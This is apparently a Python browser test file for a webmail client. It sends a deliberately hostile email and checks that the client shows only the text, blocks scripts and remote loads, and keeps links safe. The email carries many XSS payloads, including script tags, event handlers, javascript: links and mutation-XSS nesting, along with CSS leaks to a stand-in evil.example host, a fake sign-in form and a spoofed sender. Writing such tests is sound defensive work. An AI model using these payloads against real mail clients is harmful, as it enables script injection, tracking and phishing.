"""Mail that wants more than to be read."""

from email.message import EmailMessage

from wire.api_client import admin, eventually

ATTACKS = """<html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/body.png) }
@font-face { font-family: f; src: url(https://evil.example/font.woff) }
* { position: fixed !important; inset: 0 } input[value^=a] { background: url(https://evil.example/leak) }</style>
<script>alert(1); top.location = "https://evil.example/script"</script></head>
<body onload="alert(2)" background="https://evil.example/background.png">
<p>The words of the mail.</p>
<img src="https://evil.example/pixel.png" onerror="alert(3)" width="1" height="1"><img src=x onerror=alert(4)>
<img srcset="https://evil.example/srcset.png 2x"><picture><source srcset="https://evil.example/source.png"></picture>
<svg onload="alert(5)"><script>alert(6)</script><image href="https://evil.example/svg.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/frame" srcdoc="<script>alert(8)</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video" poster="https://evil.example/poster.png" autoplay></video>
<audio src="https://evil.example/audio" autoplay></audio>
<form action="https://evil.example/form"><input name="key" autofocus onfocus="alert(9)"><button>Sign in</button></form>
<a href="javascript:alert(10)">script link</a> <a href="data:text/html,<script>alert(11)</script>">data link</a>
<a href="https://evil.example/page" target="_top">a link</a> <a href="vbscript:x" onclick="alert(12)">old link</a>
<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999;background:red">over everything</div>
<div style="background:url('https://evil.example/inline.png');width:expression(alert(13));behavior:url(x.htc)">s</div>
<table width="20000"><tr><td>wide</td></tr></table>
<noscript><p title="</noscript><img src=x onerror=alert(14)>"></noscript>
</body></html>"""

ACTIVE = "script, form, input, iframe, object, embed, svg, video, audio, base, meta[http-equiv=refresh]"


def hostile_mail(to):
    mail = EmailMessage()
    mail["From"] = '"\u202eelgoog <script>alert(15)</script>" <mallory@evil.example>'
    mail["To"] = to
    mail["Subject"] = "<script>alert(16)</script> " + "W" * 700
    mail["Message-ID"] = "<hostile@evil.example>"
    mail.set_content("Plain words. " + "A" * 5000)
    mail.add_alternative(ATTACKS, subtype="html")
    mail.add_attachment(b"<script>alert(17)</script>", maintype="text", subtype="html", filename="<img src=x>.html")
    return mail


async def hostile_thread(server):
    inbox = await admin(server).inbox()
    server.send_mail(hostile_mail(inbox["address"]), mail_from="mallory@evil.example", rcpt_to=inbox["address"])

    async def arrived():
        return (await admin(server).got("/threads"))["threads"]

    return (await eventually(arrived))[0]["id"]


async def test_it_shows_its_words_and_does_nothing(person, server):
    thread = await hostile_thread(server)
    await person.go(f"/threads/{thread}")
    frame = person.page.frame_locator("iframe.mail-frame").first
    await frame.get_by_text("The words of the mail.").wait_for()
    await person.fits()
    await person.keep("hostile-blocked")
    top = await person.page.evaluate("document.elementFromPoint(5, 5).closest('iframe') === null")
    assert top, "the mail lies over the page"
    assert (
        await frame.locator(
            "script, form, input, iframe, object, embed, svg, video, audio, base, meta[http-equiv=refresh]"
        ).count()
        == 0
    )
    for link in await frame.locator("a[href]").all():
        assert (await link.get_attribute("href")).startswith(("https:", "http:", "mailto:"))
    assert person.page.url.endswith(thread)
    assert not person.strangers


async def test_nothing_remote_is_loaded_until_asked_and_then_pictures_only(person, server):
    thread = await hostile_thread(server)
    await person.context.route("https://evil.example/**", lambda route: route.fulfill(status=200, body=""))
    await person.go(f"/threads/{thread}")
    await person.page.frame_locator("iframe.mail-frame").first.get_by_text("The words of the mail.").wait_for()
    assert not person.strangers
    await person.press("Load pictures", role="link")

    async def loaded():
        return "https://evil.example/pixel.png" in person.strangers

    await eventually(loaded)
    asked = {url.rsplit("/", 1)[1] for url in person.strangers}
    assert asked <= {"pixel.png", "srcset.png"}, asked
    await person.keep("hostile-pictures")
    person.asked_for.clear()


async def test_its_source_is_shown_as_text(person, server):
    thread = await hostile_thread(server)
    await person.go(f"/threads/{thread}")
    await person.press("Source", role="link")
    await person.sees("Received:")
    await person.fits()
    await person.keep("hostile-source")


async def test_the_lists_stay_whole(person, server):
    await hostile_thread(server)
    for path in ("", "/threads", "/threads?q=words", "/event-log"):
        await person.go(path)
        await person.fits()
